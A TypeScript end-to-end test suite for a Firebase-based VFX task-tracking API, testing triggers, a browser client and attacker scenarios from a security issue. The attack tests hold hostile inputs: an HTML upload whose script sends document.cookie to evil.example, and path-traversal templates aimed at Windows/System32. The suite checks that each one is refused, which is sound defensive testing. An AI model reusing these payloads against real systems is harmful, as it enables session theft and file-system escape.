// The served stack end to end: `node stack/serve.mjs` (what `npm run serve` runs after
// building) on free ports, driven over HTTP at its Hosting URL with ID tokens from its Auth
// emulator. Audit entries, feed events and thumbnails come from the emulated functions' own
// triggers, fired by the stack; the test never calls a handler. A web page using the Firebase web
// SDK, in headless Chromium, listens to the same stack as a browser front end does (web-page.ts).
// The attacks of issue 20 are made again here, as an attacker makes them (attacks.ts).
// Needs functions/lib built and /usr/bin/chromium (`npm test` does both first).
import type { App } from 'firebase-admin/app';
import { getAuth } from 'firebase-admin/auth';
import type { DocumentData, Firestore } from 'firebase-admin/firestore';
import { collection, getDocsFromServer, query, where } from 'firebase/firestore';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it, onTestFailed, vi } from 'vitest';
import { PROJECT_ID, type Ports } from '../../../stack/emulators.mjs';
import { expectEnvelope, taskPath, uniqueName } from '../support/context.js';
import { idNeutral } from '../support/id-neutral.js';
import { serverSnapshots } from '../support/server-snapshots.js';
import { shotRows } from '../csv-import/helpers.js';
import { callerAt, createAdminScript, csvForm, forgeTimestamp, mediaForm, newPerson, TASK_ID_PROBES, webClient, type Caller, type Person } from './attacks.js';
import { startServedApi, type ServedApi } from './served-api.js';
import { openWebPage, type WebPage } from './web-page.js';
import { webhookScenarios } from './webhooks.js';

const soon = { timeout: 15_000, interval: 100 };

let stack: ServedApi;
let ports: Ports;
let admin: App;
let db: Firestore;
let bearer: string;
let adminUid: string;

const apiBase = () => `http://127.0.0.1:${ports.hosting}/api/v1`;
const api: Caller = (...args) => stack.api(...args);
/** Calls as someone else. */
const as = (who: Person): Caller => callerAt(apiBase, () => who.bearer);
const createProject = (config?: DocumentData) => stack.createProject(config);
const createTask = (projectId: string, shot: string) => stack.createTask(projectId, shot);

beforeAll(async () => {
  // No demo data: the test makes what it needs, and the seed's own trigger work stays out of it.
  stack = await startServedApi('served-stack');
  ({ ports, admin, db, bearer, adminUid } = stack);
}, 95_000);

afterAll(async () => {
  await stack?.stop();
});

describe('the served stack', () => {
  it('says it serves with the official Firestore emulator', () => {
    expect(stack.served.output()).toMatch(/Firestore {4}: the official Cloud Firestore emulator on 127\.0\.0\.1:\d+ \(Java \d+/);
  });

  it("applies the app's CORS allow-list to preflights, which the Functions emulator would otherwise answer for any origin", async () => {
    const preflight = (origin: string) =>
      fetch(`http://127.0.0.1:${ports.hosting}/api/v1/tasks`, { method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'PATCH', 'access-control-request-headers': 'authorization,content-type' } });
    const allowed = await preflight('http://localhost:5173');
    expect(allowed.headers.get('access-control-allow-origin')).toBe('http://localhost:5173');
    const refused = await preflight('https://evil.example');
    expect(refused.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('answers a malformed JSON body, which the Functions runtime parses before the app, without a stack trace or file paths', async () => {
    const res = await fetch(`http://127.0.0.1:${ports.hosting}/api/v1/tasks`, { method: 'POST', headers: { authorization: bearer, 'content-type': 'application/json' }, body: '{"project_id": "SWA",' });
    expect(res.status).toBe(400);
    const body = await res.text();
    expect(body).not.toMatch(/\s+at |node_modules|\.[jt]s:\d+|SyntaxError:/);
  });
});

describe('what the platform does before the app, on the served stack', () => {
  it('refuses a form-urlencoded PATCH (the Functions runtime parses it before the app) with 415, changing nothing', async () => {
    const taskId = await createTask(await createProject(), 'SH0070');
    const res = await fetch(`http://127.0.0.1:${ports.hosting}/api/v1/tasks/${taskId}`, {
      method: 'PATCH',
      headers: { authorization: bearer, 'content-type': 'application/x-www-form-urlencoded' },
      body: 'status=approved&priority=urgent',
    });
    expect(res.status).toBe(415);
    expect(((await res.json()) as DocumentData).error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await api('GET', `/tasks/${taskId}`)).body).toMatchObject({ status: 'not_started', priority: 'medium' });
  });

  it('keys the sign-in brake on the address the platform saw, never on a client-written X-Forwarded-For', async () => {
    const email = `${uniqueName('victim')}@studio.test`.toLowerCase();
    await getAuth(admin).createUser({ email, password: 'right-password' });
    const login = (password: string, forwardedFor: string) =>
      fetch(`http://127.0.0.1:${ports.hosting}/api/v1/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': forwardedFor },
        body: JSON.stringify({ email, password }),
      });
    const statuses: number[] = [];
    for (let i = 1; i <= 6; i++) statuses.push((await login('wrong-password', `203.0.113.${i}`)).status);
    expect(statuses).toEqual([401, 401, 401, 401, 401, 429]);
  });
});

describe('the served stack fires the triggers', () => {
  it('a task PATCHed over HTTP gets its audit entries and its feed event', async () => {
    const projectId = await createProject();
    const taskId = await createTask(projectId, 'SH0010');
    const patched = await api('PATCH', `/tasks/${taskId}`, { status: 'in_progress' });
    expect(patched.status).toBe(200);
    const uid = patched.body.updated_by as string;

    await vi.waitFor(async () => {
      const history = await api('GET', `/tasks/${taskId}/history`);
      expect(history.body.items.map((e: DocumentData) => e.action)).toEqual(['update', 'create']);
    }, soon);
    const [update] = (await api('GET', `/tasks/${taskId}/history`)).body.items;
    expect(update).toMatchObject({
      collection: 'tasks',
      document_id: taskId,
      document_path: taskPath(projectId, taskId),
      project_id: projectId,
      action: 'update',
      changes: { status: { old: 'not_started', new: 'in_progress' } },
      actor: uid,
      bulk_id: null,
    });

    await vi.waitFor(async () => {
      const events = await db.collection(`projects/${projectId}/events`).where('type', '==', 'task_updated').get();
      expect(events.docs.map((d) => d.get('data'))).toEqual([{ task_id: taskId, changes: { status: 'in_progress' }, user: uid, timestamp: update.time }]);
    }, soon);
  });

  it('a media upload over HTTP gets its thumbnails and image facts', async () => {
    const projectId = await createProject();
    const taskId = await createTask(projectId, 'SH0020');
    const png = await sharp({ create: { width: 640, height: 360, channels: 3, background: { r: 200, g: 90, b: 30 } } }).png().toBuffer();
    const uploaded = await api('POST', '/media', mediaForm(taskId, 'v001', 'comp_v001.png', png, 'image/png'));
    expect(uploaded.status).toBe(201);
    expect(uploaded.body.thumbnail_status).toBe('pending');
    const mediaId = uploaded.body.id as string;

    await vi.waitFor(async () => expect((await api('GET', `/media/${mediaId}`)).body.thumbnail_status).toBe('ready'), soon);
    const media = (await api('GET', `/media/${mediaId}`)).body;
    expect(media).toMatchObject({
      thumbnail_key: `thumbnails/${projectId}/${taskId}/v001/comp_v001.png_thumb.jpg`,
      thumbnail_small_key: `thumbnails/${projectId}/${taskId}/v001/comp_v001.png_thumb_small.jpg`,
      metadata: { width: 640, height: 360, format: 'png' },
    });
    const thumb = await fetch(`http://127.0.0.1:${ports.hosting}/api/v1/media/${mediaId}/thumbnail`, { headers: { authorization: bearer } });
    expect(thumb.status).toBe(200);
    expect(thumb.headers.get('content-type')).toBe('image/jpeg');
    expect((await sharp(Buffer.from(await thumb.arrayBuffer())).metadata()).format).toBe('jpeg');
  });

  it('an async CSV import over HTTP runs in its trigger, writes every row (20 chunks, each one REST commit) and announces itself', async () => {
    const projectId = await createProject();
    // Its own episode: the admin reads every project, and a bare id two of them share is ambiguous to them (409).
    const rows = shotRows(40).map((row) => row.replace(/^ep01,/, 'ep77,'));
    const started = await api('POST', '/tasks/import-csv-async', csvForm({ project_id: projectId }, rows.join('\n')));
    expect(started.status).toBe(202);
    const jobId = started.body.job_id as string;
    const status = async () => (await api('GET', `/tasks/import-status/${jobId}`)).body;
    await vi.waitFor(async () => expect((await status()).status).toBe('completed'), soon);
    expect(await status()).toMatchObject({ progress_percent: 100, total_rows: 40, processed_rows: 40, created_tasks: 40, invalid_tasks: 0, written_rows: [{ from: 2, to: 41 }] });
    expect((await db.collection('tasks').where('project_id', '==', projectId).count().get()).data().count).toBe(40);
    const task = (await api('GET', `/tasks/ep77_sq0010_sh0240_comp?project_id=${projectId}`)).body;
    expect(task).toMatchObject({ artist: 'artist2', frame_range: { start: 1001, end: 1123 }, estimated_duration_hours: 8, description: 'shot 23' });
    await vi.waitFor(async () => expect((await db.doc(`projects/${projectId}/events/${jobId}`).get()).get('type')).toBe('import_completed'), soon);
  });

  it('a listener on the project feed receives task messages as the API creates, updates and bulk-updates tasks', async () => {
    const projectId = await createProject();
    const received: DocumentData[] = [];
    const stop = db
      .collection(`projects/${projectId}/events`)
      .orderBy('created_at')
      .onSnapshot((snap) => {
        // Only the task channel's messages: creating the project also published its creator's member_added.
        for (const change of snap.docChanges()) if (change.type === 'added' && !String(change.doc.get('type')).startsWith('member_')) received.push(change.doc.data());
      });

    const a = await createTask(projectId, 'SH0030');
    const b = await createTask(projectId, 'SH0040');
    const patched = await api('PATCH', `/tasks/${a}`, { status: 'in_progress' });
    expect(patched.status).toBe(200);
    const bulk = await api('PATCH', '/tasks/bulk-update', [
      { task_id: a, updates: { priority: 'high' } },
      { task_id: b, updates: { priority: 'high' } },
    ]);
    expect(bulk.body).toMatchObject({ updated_count: 2, updated_tasks: [a, b] });

    const summary = (m: DocumentData) => {
      const d = m.data as DocumentData;
      if (m.type === 'task_created') return `created ${d.task.id}`;
      if (m.type === 'task_updated') return `updated ${d.task_id} ${JSON.stringify(d.changes)}${d.part_of ? ' (bulk)' : ''}`;
      return `${m.type} ${d.task_ids.join(',')} ${JSON.stringify(d.changes)}`;
    };
    const expected = [
      `created ${a}`,
      `created ${b}`,
      `updated ${a} {"status":"in_progress"}`,
      `tasks_bulk_updated ${a},${b} {"priority":"high"}`,
      `updated ${a} {"priority":"high"} (bulk)`,
      `updated ${b} {"priority":"high"} (bulk)`,
    ];
    await vi.waitFor(() => expect(received.map(summary).sort()).toEqual([...expected].sort()), soon);
    stop();
    const arrived = received.map(summary);
    // The triggers write the task messages in commit order; the bulk endpoint writes its own event
    // at once, so it comes before the messages that are part of it.
    expect(arrived.filter((m) => !m.startsWith('tasks_bulk_updated'))).toEqual(expected.filter((m) => !m.startsWith('tasks_bulk_updated')));
    expect(arrived.indexOf(expected[3]!)).toBeLessThan(arrived.indexOf(expected[4]!));
    // Each message's timestamp is its write's time: in that order, the messages follow the calls.
    expect([...received].sort((x, y) => x.data.timestamp.localeCompare(y.data.timestamp)).map(summary)).toEqual(expected);
    const bulkId = (await db.doc(taskPath(projectId, a)).get()).get('bulk_id');
    expect(received.filter((m) => m.data.part_of).map((m) => m.data.part_of)).toEqual([bulkId, bulkId]);
    expect(new Set(received.map((m) => m.data.user))).toEqual(new Set([patched.body.updated_by]));
  });
});

describe('what the attacker found (issue 20), tried again on the served stack', () => {
  // After the trigger tests: the Functions emulator starts each trigger's worker on first use, one
  // after another, and those tests have paid for all but the annotations'.
  // A project with a drive and a template, its admin (the lead) and two artists; Mallory writes in
  // another project only. Each finding's task gets a shot of its own in the shared project.
  let project: string;
  let mallorys: string;
  let lead: Person;
  let artist: Person;
  let artist2: Person;
  let mallory: Person;
  let png: Buffer;

  async function addMembers(projectId: string, entries: [Person, string[]][]): Promise<void> {
    const res = await api('POST', `/projects/${projectId}/users`, entries.map(([who, permissions]) => ({ user_id: who.uid, permissions })));
    expect(res.body.errors).toEqual([]);
  }
  async function upload(by: Person, taskId: string, version: string): Promise<string> {
    const res = await as(by)('POST', '/media', mediaForm(taskId, version, `comp_${version}.png`, png, 'image/png'));
    expect(res.status).toBe(201);
    return res.body.id as string;
  }
  const stored = async (path: string) => (await db.doc(path).get()).data();
  /** The error's status and message, in one comparable value. */
  const refusal = (res: { status: number; body: DocumentData }, code: string) => [res.status, expectEnvelope(res.body, code).message];

  beforeAll(async () => {
    const people = await Promise.all(['lead', 'artist', 'artist2', 'mallory'].map((label) => newPerson(getAuth(admin), label)));
    [lead, artist, artist2, mallory] = people as [Person, Person, Person, Person];
    [project, mallorys] = await Promise.all([createProject({ drive_mapping: { working_files: 'V:' }, templates: { shot_work: '{drive_working}/{project}/{episode}/{shot}/' } }), createProject()]);
    await Promise.all([addMembers(project, [[lead, ['admin']], [artist, ['write']], [artist2, ['write']]]), addMembers(mallorys, [[mallory, ['write']]])]);
    png = await sharp({ create: { width: 32, height: 18, channels: 3, background: { r: 90, g: 90, b: 90 } } }).png().toBuffer();
  });

  it("2: a writer cannot delete another's render with the review notes on it; the admin who does is the audit log's actor", async () => {
    const mediaId = await upload(artist, await createTask(project, 'SH0210'), 'v001');
    const note = async (by: Person, content: string) => {
      const res = await as(by)('POST', '/annotations', { media_id: mediaId, annotation_type: 'note', content });
      expect(res.status).toBe(201);
      return res.body.id as string;
    };
    const review = await note(lead, 'the edge flickers at 1012');
    const reply = await note(artist2, 'fixing it in v002');

    expect((await as(artist2)('DELETE', `/annotations/${review}`)).status).toBe(403);
    expect(refusal(await as(artist2)('DELETE', `/media/${mediaId}`), 'PERMISSION_DENIED')).toEqual([403, `Only the uploader or a project admin may delete media ${mediaId}`]);
    expect(refusal(await as(artist)('DELETE', `/media/${mediaId}`), 'PERMISSION_DENIED')).toEqual([
      403,
      `Media ${mediaId} carries 2 annotations by other users; only a project admin may delete it with them`,
    ]);
    expect(await Promise.all([`media/${mediaId}`, `annotations/${review}`, `annotations/${reply}`].map(async (path) => (await stored(path)) !== undefined))).toEqual([true, true, true]);
    expect((await stored(`media/${mediaId}`))!.deleting).toBeUndefined();

    /** The actor of the document's audit entry for `action`, once the trigger wrote it. */
    const actor = async (collection: string, id: string, action: string) => {
      const entries = (await as(lead)('GET', `/audit?project_id=${project}&collection=${collection}&document_id=${id}`)).body.items as DocumentData[];
      return entries.find((entry) => entry.action === action)?.actor;
    };
    await vi.waitFor(async () => expect([await actor('annotations', review, 'create'), await actor('annotations', reply, 'create')]).toEqual([lead.uid, artist2.uid]), soon);

    expect((await as(lead)('DELETE', `/media/${mediaId}`)).status).toBe(204);
    // The reply's last editor is artist2; the entries of the cascade name the lead, who deleted.
    const deleter = (collection: string, id: string) => actor(collection, id, 'delete');
    await vi.waitFor(async () => expect([await deleter('annotations', reply), await deleter('annotations', review), await deleter('media', mediaId)]).toEqual([lead.uid, lead.uid, lead.uid]), soon);
  });

  it('3: an artist cannot approve their own render, nor the project admin theirs, and the task stays pending review', async () => {
    const taskId = await createTask(project, 'SH0220');
    const render = await upload(artist, taskId, 'v001');
    expect((await as(artist)('PATCH', `/tasks/${taskId}`, { status: 'pending_review' })).status).toBe(200);
    const approve = (by: Person, id: string) => as(by)('POST', `/media/${id}/approve`, { approval_status: 'approved' });

    expect(refusal(await approve(artist, render), 'PERMISSION_DENIED')).toEqual([403, `This needs 'review' permission on project ${project}`]);
    const leads = await upload(lead, taskId, 'v002');
    expect(refusal(await approve(lead, leads), 'PERMISSION_DENIED')).toEqual([403, `You uploaded media ${leads}; project ${project} does not allow reviewing one's own upload (allow_self_review)`]);
    expect((await stored(taskPath(project, taskId)))!.status).toBe('pending_review');
    expect([(await stored(`media/${render}`))!.approval_status, (await stored(`media/${leads}`))!.approval_status]).toEqual(['pending', 'pending']);

    // The project's reviewer approving the artist's render is what moves the task.
    expect((await approve(lead, render)).status).toBe(200);
    expect((await stored(taskPath(project, taskId)))!.status).toBe('approved');
  });

  it("4: the project admin cannot point templates or drive roots outside the project, and its folder plan stays inside", async () => {
    const config = async () => {
      const { drive_mapping, path_segments, templates } = (await stored(`projects/${project}`))!;
      return { drive_mapping, path_segments, templates };
    };
    const before = await config();
    const escapes: [DocumentData, string][] = [
      [{ templates: { shot_work: '{drive_working}/../../../../Windows/System32/{filename}' } }, 'templates.shot_work'],
      [{ templates: { system: 'C:\\Windows\\System32\\{filename}' } }, 'templates.system'],
      [{ drive_mapping: { working_files: 'C:\\..\\..\\Windows' } }, 'drive_mapping.working_files'],
      [{ path_segments: { up: '../..' }, templates: { up: '{drive_working}/{up}/{filename}' } }, 'path_segments.up'],
    ];
    for (const [patch, field] of escapes) {
      const res = await as(lead)('PATCH', `/projects/${project}`, patch);
      expect([res.status, expectEnvelope(res.body, 'VALIDATION_ERROR').details]).toMatchObject([400, { field }]);
    }
    expect(await config()).toEqual(before);

    const plan = await as(lead)('POST', `/projects/${project}/directory-structure`, { episodes: ['ep01'], shots: ['sh010'] });
    expect(plan.status).toBe(201);
    expect(plan.body.directories).toEqual([`V:/${project}`, `V:/${project}/ep01`, `V:/${project}/ep01/sh010`]);
  });

  it('5: two project admins demoting each other at once leave the project one admin', async () => {
    const [a, b] = await Promise.all([newPerson(getAuth(admin), 'admin-a'), newPerson(getAuth(admin), 'admin-b')]);
    const id = await createProject();
    await addMembers(id, [[a, ['admin']], [b, ['admin']]]);
    // The studio admin created the project and so is its admin too: it leaves the two alone.
    expect((await api('DELETE', `/projects/${id}/users/${adminUid}`)).status).toBe(204);

    const statuses = (await Promise.all([as(a)('PATCH', `/projects/${id}/users/${b.uid}`, { permissions: ['read'] }), as(b)('PATCH', `/projects/${id}/users/${a.uid}`, { permissions: ['read'] })])).map((r) => r.status);
    expect(statuses.filter((s) => s === 200), JSON.stringify(statuses)).toHaveLength(1);
    // The loser was demoted first (403), would demote the last admin (422), or lost on contention (409).
    expect([403, 409, 422]).toContain(statuses.find((s) => s !== 200));
    expect((await db.collection(`projects/${id}/members`).where('permissions', 'array-contains', 'admin').get()).size).toBe(1);
  });

  it('6: a page token with a forged timestamp is a 400 naming page_token, not a 500', async () => {
    await createTask(project, 'SH0260');
    await createTask(project, 'SH0261');
    const list = (token?: string) => as(lead)('GET', `/tasks?project_id=${project}&page_size=1${token ? `&page_token=${token}` : ''}`);
    const token = (await list()).body.next_page_token as string;
    const forged = await list(forgeTimestamp(token));
    expect([forged.status, expectEnvelope(forged.body, 'VALIDATION_ERROR').details]).toEqual([400, { field: 'page_token', issue: 'malformed' }]);
    const next = await list(token);
    expect([next.status, next.body.page]).toEqual([200, 2]);
  });

  it('7: an HTML page uploaded as media is served with nosniff, never as a page', async () => {
    const taskId = await createTask(project, 'SH0270');
    const page = '<html><script>fetch("https://evil.example/?" + document.cookie)</script></html>';
    const html = new TextEncoder().encode(page);
    const refused = await as(artist)('POST', '/media', mediaForm(taskId, 'v001', 'review.html', html, 'text/html'));
    expect(refused.status).toBe(400);
    expect(expectEnvelope(refused.body, 'VALIDATION_ERROR').message).toMatch(/^File type \.html is not allowed/);
    // In a file the API takes, the page is served as what the name says, and the browser is told not to guess.
    const uploaded = await as(artist)('POST', '/media', mediaForm(taskId, 'v001', 'review.mov', html, 'text/html'));
    expect(uploaded.status).toBe(201);
    const download = await as(artist2)('GET', `/media/${uploaded.body.id}/download`);
    expect([download.status, download.headers.get('content-type'), download.headers.get('x-content-type-options'), download.body]).toEqual([200, 'video/quicktime', 'nosniff', page]);
  });

  it("8: a non-member learns nothing of another project's task ids, and is never blocked by them (ids are per project)", async () => {
    const created = await api('POST', '/tasks', { project_id: project, episode: 'Ep08', sequence: 'sq0010', shot: 'SH0280', task: 'comp', artist: 'secret-artist' });
    const taken = created.body.id as string;
    const free = taken.replace('sh0280', 'sh0281');
    const before = await stored(taskPath(project, taken));

    for (const [route, probe] of TASK_ID_PROBES) expect(idNeutral(await probe(as(mallory), taken), taken), route).toBe(idNeutral(await probe(as(mallory), free), free));
    const dryRun = (shot: string) => as(mallory)('POST', '/tasks/import-csv', csvForm({ project_id: mallorys, validate_only: 'true', existing: 'update' }, `Ep08,sq0010,${shot},comp,,,,,,,,`));
    const [dryTaken, dryFree] = [await dryRun('SH0280'), await dryRun('SH0281')];
    expect(dryTaken.body).toMatchObject({ invalid_tasks: 0, actions: { create: 1, update: 0, skip: 0 } });
    expect(idNeutral(dryTaken, taken)).toBe(idNeutral(dryFree, free));

    // Creating the id in their own project is a create like any other: it answers as for a fresh id.
    const create = (shot: string) => as(mallory)('POST', '/tasks', { project_id: mallorys, episode: 'Ep08', sequence: 'sq0010', shot, task: 'comp' });
    const [mine, fresh] = [await create('SH0280'), await create('SH0281')];
    const withoutTimes = (text: string) => text.replace(/"(created_at|updated_at)":"[^"]*"/g, '');
    expect(mine.status).toBe(201);
    expect(withoutTimes(idNeutral(mine, taken))).toBe(withoutTimes(idNeutral(fresh, free)));
    expect(JSON.stringify(mine.body)).not.toMatch(new RegExp(`${project}|secret-artist`));
    expect(await stored(taskPath(project, taken))).toEqual(before);
    expect((await as(mallory)('GET', `/tasks/${taken}`)).body).toMatchObject({ id: taken, project_id: mallorys });
    // Nor does Mallory block the other project: its admin creates the id Mallory took first.
    const theirs = await api('POST', '/tasks', { project_id: project, episode: 'Ep08', sequence: 'sq0010', shot: 'SH0281', task: 'comp' });
    expect([theirs.status, theirs.body.id, theirs.body.project_id]).toEqual([201, free, project]);
    expect(await stored(taskPath(mallorys, free))).toMatchObject({ project_id: mallorys });
  });

  it('9: a demoted global admin loses direct Firestore listener access at once, though their token still claims admin', async () => {
    const taskId = await createTask(project, 'SH0290');
    const boss = await newPerson(getAuth(admin), 'boss');
    await createAdminScript(ports, boss.email);
    const web = await webClient(ports, boss);
    try {
      expect(await web.claims()).toMatchObject({ admin: true });
      const tasks = query(collection(web.db, 'tasks'), where('project_id', '==', project));
      const seen = serverSnapshots(tasks, (snap) => snap.docs.find((d) => d.get('id') === taskId)?.get('status') ?? 'absent');
      expect(await seen.next(1)).toEqual(['not_started']);

      await createAdminScript(ports, boss.email, true);
      expect(await web.claims()).toMatchObject({ admin: true });
      expect((await api('PATCH', `/tasks/${taskId}`, { status: 'in_progress' })).status).toBe(200);
      // The listener opened while they were admin delivers nothing after the demotion.
      expect(await seen.next(2)).toEqual(['not_started', 'permission-denied']);
      seen.stop();
      await expect(getDocsFromServer(tasks)).rejects.toMatchObject({ code: 'permission-denied' });
      // The API, which reads the user record, refuses the same token too.
      expect((await as(boss)('GET', `/tasks/${taskId}`)).status).toBe(404);
    } finally {
      await web.close();
    }
  });
});

describe('a browser page with the Firebase web SDK on the served stack', () => {
  // The web SDK's Firestore transport in a browser is WebChannel over HTTP/1.1 (Node's is gRPC):
  // only a real browser shows that browsers can listen to the served stack.
  let web: WebPage;

  beforeAll(async () => {
    web = await openWebPage();
  });

  afterAll(async () => {
    await web?.close();
  });

  it('signs in through the Auth emulator, sees a task change made through the API in its listener, and is refused on a project it is not a member of', async () => {
    onTestFailed(() => console.log(`[e2e] the page's console:\n${web.console.join('\n')}\nits requests:\n${web.requests.join('\n')}`));
    const { page } = web;
    // An artist with read access to one project, added through the API by the studio admin.
    const email = `${uniqueName('artist')}@studio.test`.toLowerCase();
    const password = 'artist-password';
    const { uid } = await getAuth(admin).createUser({ email, password });
    const mine = await createProject();
    const taskId = await createTask(mine, 'SH0050');
    const added = await api('POST', `/projects/${mine}/users`, [{ email, permissions: ['read'] }]);
    expect(added.body).toMatchObject({ added: [{ user_id: uid, permissions: ['read'] }], errors: [] });
    const theirs = await createProject();
    const theirTask = await createTask(theirs, 'SH0060');

    await page.goto(`${web.url}#projectId=${PROJECT_ID}&auth=http://127.0.0.1:${ports.auth}&firestore=127.0.0.1:${ports.firestore}`);
    await page.fill('#sign-in [name=email]', email);
    await page.fill('#sign-in [name=password]', password);
    await page.click('#sign-in button');
    await page.waitForSelector('#who[data-uid], #who[data-error]', { timeout: soon.timeout });
    expect(await page.getAttribute('#who', 'data-uid')).toBe(uid);
    expect(await page.textContent('#who')).toBe(`Signed in as ${email} (${uid})`);

    // Their own project: the project reads, the channel goes live with its task.
    const own = `article[data-project="${mine}"]`;
    await page.fill('#open [name=project]', mine);
    await page.click('#open button');
    await page.waitForSelector(`${own}[data-read="ok"][data-listen="live"] li[data-task-id="${taskId}"]`, { timeout: soon.timeout });
    expect(await page.textContent(`${own} h2`)).toBe(`End to end ${mine} (${mine})`);
    expect(await page.getAttribute(`${own} li[data-task-id="${taskId}"]`, 'data-status')).toBe('not_started');

    // Someone else's project: the rules refuse both the read and the listener.
    const other = `article[data-project="${theirs}"]`;
    await page.fill('#open [name=project]', theirs);
    await page.click('#open button');
    await page.waitForSelector(`${other}:not([data-read="loading"]):not([data-listen="connecting"])`, { timeout: soon.timeout });
    expect(await page.getAttribute(other, 'data-read')).toBe('permission-denied');
    expect(await page.getAttribute(other, 'data-listen')).toBe('permission-denied');

    // The studio admin changes the artist's task through the served API; the page's listeners see it.
    const patched = await api('PATCH', `/tasks/${taskId}`, { status: 'in_progress' });
    expect(patched.status).toBe(200);
    await page.waitForSelector(`${own} li[data-task-id="${taskId}"][data-status="in_progress"]`, { timeout: soon.timeout });
    const message = `${own} li[data-type="task_updated"][data-task-id="${taskId}"]`;
    await page.waitForSelector(message, { timeout: soon.timeout });
    expect(await page.textContent(message)).toBe(`task_updated ${taskId} {"status":"in_progress"} by ${patched.body.updated_by}`);
    // Nothing of the other project reached the page.
    expect(await page.locator(`${other} li`).count()).toBe(0);
    expect(await page.content()).not.toContain(theirTask);

    // The listeners ran over the web SDK's browser transport, and the page used nothing off this machine.
    expect(web.requests.some((url) => url.startsWith(`http://127.0.0.1:${ports.firestore}/google.firestore.v1.Firestore/Listen/channel`))).toBe(true);
    expect(web.requests.filter((url) => !/^(http:\/\/127\.0\.0\.1:\d+\/|data:)/.test(url))).toEqual([]);
  });
});

describe('the interactive docs in a real browser', () => {
  // Every HTTP-level check of these pages passed while ReDoc showed only an error: only a browser tells.
  let web: WebPage;
  let operations: number;

  beforeAll(async () => {
    web = await openWebPage();
    const doc = (await api('GET', '/openapi.json')).body as { paths: Record<string, Record<string, unknown>> };
    operations = Object.values(doc.paths).reduce((n, methods) => n + Object.keys(methods).length, 0);
  });

  afterAll(async () => {
    await web?.close();
  });

  // What the browser refuses by the pages' Content-Security-Policy (it says so on the console) never
  // leaves the machine.
  const refusedByPolicy = (url: string) => web.console.some((line) => line.includes(`'${url}' violates the following Content Security Policy`) && line.includes('has been blocked'));
  const offMachine = () => web.requests.filter((url) => !refusedByPolicy(url) && !/^(http:\/\/(127\.0\.0\.1|localhost):\d+\/|data:|blob:)/.test(url));

  it('ReDoc renders every operation and no error', async () => {
    onTestFailed(() => console.log(`[e2e] the page's console:\n${web.console.join('\n')}`));
    const { page } = web;
    const response = await page.goto(`http://127.0.0.1:${ports.hosting}/redoc`);
    expect(response?.headers()['content-security-policy']).toContain("default-src 'self'");
    await page.waitForSelector('[data-section-id^="operation/"], h1:has-text("Something went wrong")', { timeout: soon.timeout });
    expect(await page.locator('text=Something went wrong').count()).toBe(0);
    expect(await page.locator('[data-section-id^="operation/"]').count()).toBe(operations);
    expect(offMachine()).toEqual([]);
  });

  it('Swagger UI lists every operation, and "Try it out" on GET /tasks with a token answers 200', async () => {
    onTestFailed(() => console.log(`[e2e] the page's console:\n${web.console.join('\n')}`));
    const { page } = web;
    await page.goto(`http://127.0.0.1:${ports.hosting}/docs`);
    await page.waitForSelector('.opblock', { timeout: soon.timeout });
    expect(await page.locator('.opblock').count()).toBe(operations);

    await page.click('.auth-wrapper .authorize');
    await page.fill('.auth-container input', bearer.replace(/^Bearer /, ''));
    await page.click('.auth-btn-wrapper .authorize');
    await page.click('.btn-done');
    const listTasks = page.locator('.opblock-get', { has: page.locator('.opblock-summary-path[data-path="/api/v1/tasks"]') });
    await listTasks.locator('.opblock-summary').click();
    await listTasks.locator('.try-out__btn').click();
    await listTasks.locator('.execute').click();
    const status = listTasks.locator('.live-responses-table tbody .response-col_status').first();
    await status.waitFor({ timeout: soon.timeout });
    expect((await status.textContent())?.trim()).toBe('200');
    expect(offMachine()).toEqual([]);
  });
});

describe('task dependencies on the served stack', () => {
  it('an upstream task completed over HTTP makes its downstream task ready within seconds, and listeners see it', async () => {
    const projectId = await createProject();
    const task = async (taskType: string, extra: Record<string, unknown> = {}) => {
      const res = await api('POST', '/tasks', { project_id: projectId, episode: 'Ep09', sequence: 'sq0010', shot: 'SH0900', task: taskType, ...extra });
      expect(res.status).toBe(201);
      return res.body;
    };
    const animation = await task('animation');
    const lighting = await task('lighting', { depends_on: [animation.id] });
    expect(lighting).toMatchObject({ blocked_by: [animation.id], ready: false });

    const readiness: boolean[] = [];
    const messages: DocumentData[] = [];
    const stopTask = db.doc(taskPath(projectId, lighting.id)).onSnapshot((snap) => readiness.push(snap.get('ready') as boolean));
    const stopFeed = db
      .collection(`projects/${projectId}/events`)
      .where('type', '==', 'task_ready')
      .onSnapshot((snap) => {
        for (const change of snap.docChanges()) if (change.type === 'added') messages.push(change.doc.get('data'));
      });
    await vi.waitFor(() => expect(readiness).toEqual([false]), soon);

    expect((await api('PATCH', `/tasks/${animation.id}`, { status: 'completed' })).status).toBe(200);
    await vi.waitFor(() => expect(readiness.at(-1)).toBe(true), soon);
    await vi.waitFor(() => expect(messages).toEqual([expect.objectContaining({ task_id: lighting.id, blocked_by: [], user: 'system' })]), soon);
    stopTask();
    stopFeed();

    const queue = await api('GET', `/tasks?project_id=${projectId}&ready=true`);
    expect(queue.body.items.map((t: DocumentData) => t.id)).toEqual([lighting.id]);
    const dependencies = await api('GET', `/tasks/${lighting.id}/dependencies`);
    expect(dependencies.body.upstream).toEqual([expect.objectContaining({ id: animation.id, status: 'completed', blocking: false })]);
  });
});

webhookScenarios(() => stack);
